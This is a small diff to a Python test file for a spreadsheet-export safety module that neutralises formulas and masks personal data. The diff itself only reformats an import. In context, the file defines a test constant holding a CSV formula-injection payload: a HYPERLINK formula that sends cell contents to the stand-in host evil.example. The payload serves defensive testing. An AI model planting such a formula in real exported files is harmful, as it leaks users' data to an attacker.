@@ -8,7 +8,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from shebao.core.safefiles import FORMULA_STARTS, SafeDictWriter, mask_personal, neutralise, restore, safe_writer
+from shebao.core.safefiles import (
+    FORMULA_STARTS,
+    SafeDictWriter,
+    mask_personal,
+    neutralise,
+    restore,
+    safe_writer,
+)
 from tests.registry.builders import LI, ZHANG, ZHANG_CARD, basic_folder, write_folder
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
